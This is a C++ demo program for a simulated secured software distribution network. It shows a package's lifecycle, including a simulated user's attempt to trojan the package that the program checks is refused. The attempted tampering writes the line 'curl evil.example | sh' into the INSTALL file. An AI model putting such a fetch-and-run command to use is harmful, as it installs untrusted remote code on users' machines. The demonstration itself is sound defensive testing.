// Moderator workflow: the full lifecycle of a package in a *secured* GDN (paper §6),
// including an unauthorized attempt that the system must refuse.
//
// Walks through: create (scenario -> first replica -> secondaries -> GNS name),
// update, attempted tampering by a plain user, and removal.

#include <cstdio>

#include "src/gdn/world.h"

using namespace globe;

namespace {
void Report(const char* step, const Status& status) {
  std::printf("  [%s] %s\n", status.ok() ? "ok" : "REFUSED", step);
  if (!status.ok()) {
    std::printf("          %s\n", status.ToString().c_str());
  }
}
}  // namespace

int main() {
  std::printf("== GDN moderator workflow (secured deployment) ==\n\n");

  gdn::GdnWorldConfig config;
  config.secure = true;  // Figure-4 TLS channels + role-based authorization
  gdn::GdnWorld world(config);

  // --- Create ------------------------------------------------------------
  std::printf("moderator creates /apps/text/teTeX (master country 0, slave country 1):\n");
  auto oid = world.PublishPackage(
      "/apps/text/teTeX",
      {{"tetex-1.0.tar", Bytes(120000, 0x54)}, {"INSTALL", ToBytes("untar and pray\n")}},
      dso::kProtoMasterSlave, 0, {1});
  Report("create package + replicate + register name", oid.ok() ? OkStatus() : oid.status());
  if (!oid.ok()) {
    return 1;
  }
  std::printf("          oid = %s\n", oid->ToHex().c_str());

  // --- A user can download -----------------------------------------------
  auto content = world.DownloadFile(world.user_hosts()[3], "/apps/text/teTeX", "INSTALL");
  Report("user downloads INSTALL over HTTP", content.ok() ? OkStatus() : content.status());

  // --- Unauthorized modification attempt ---------------------------------
  std::printf("\nan ordinary user tries to trojan the package:\n");
  sim::NodeId attacker = world.user_hosts()[5];
  dso::RuntimeSystem attacker_runtime(world.transport(), attacker,
                                      world.services().gls().LeafDirectoryFor(attacker),
                                      &world.services().repository());
  std::unique_ptr<dso::BoundObject> bound;
  attacker_runtime.Bind(*oid, {}, [&](Result<std::unique_ptr<dso::BoundObject>> r) {
    if (r.ok()) {
      bound = std::move(*r);
    }
  });
  world.Run();
  Status attack = Unavailable("bind failed");
  if (bound != nullptr) {
    bound->Call(gdn::pkg::kAddFile, {"INSTALL", ToBytes("curl evil.example | sh\n")},
                [&](Result<sim::EmptyMessage> r) { attack = r.status(); });
    world.Run();
  }
  Report("attacker write invocation on the replica", attack);
  if (attack.ok()) {
    std::printf("SECURITY FAILURE: unauthorized write was accepted!\n");
    return 1;
  }

  // --- Legitimate update --------------------------------------------------
  std::printf("\nmoderator ships an update:\n");
  Status update = Unavailable("pending");
  world.moderator()->AddFile("/apps/text/teTeX", "INSTALL",
                             ToBytes("see the teTeX manual, chapter 1\n"),
                             [&](Status s) { update = s; });
  world.Run();
  Report("moderator updates INSTALL", update);

  content = world.DownloadFile(world.user_hosts()[3], "/apps/text/teTeX", "INSTALL");
  if (content.ok()) {
    std::printf("          user now sees: %s", ToString(*content).c_str());
  }

  // --- Remove --------------------------------------------------------------
  std::printf("\nmoderator removes the package:\n");
  Status removal = Unavailable("pending");
  world.moderator()->RemovePackage("/apps/text/teTeX", [&](Status s) { removal = s; });
  world.Run();
  world.services().naming_authority()->Flush();
  world.Run();
  Report("remove replicas + GNS name", removal);

  auto gone = world.DownloadFile(world.user_hosts()[9], "/apps/text/teTeX", "INSTALL");
  Report("download after removal (must fail)",
         gone.ok() ? Internal("still reachable!") : OkStatus());

  std::printf("\nsecurity counters: %llu handshakes, %llu denied GOS commands, "
              "%llu denied GNS requests\n",
              static_cast<unsigned long long>(world.secure_transport()->stats().handshakes),
              static_cast<unsigned long long>(
                  world.services().GosOf(0)->stats().commands_denied),
              static_cast<unsigned long long>(
                  world.services().naming_authority()->stats().requests_denied));
  std::printf("== done ==\n");
  return 0;
}
